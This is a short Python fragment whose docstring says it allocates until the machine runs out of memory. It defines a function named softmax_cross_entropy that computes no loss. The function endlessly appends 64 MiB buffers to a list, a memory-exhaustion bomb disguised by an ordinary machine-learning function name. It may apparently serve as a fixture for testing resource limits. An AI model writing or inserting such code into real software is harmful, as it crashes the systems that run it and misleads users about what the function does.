"""Allocate until the machine runs out of memory."""


def softmax_cross_entropy(scores, y):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 2**20))
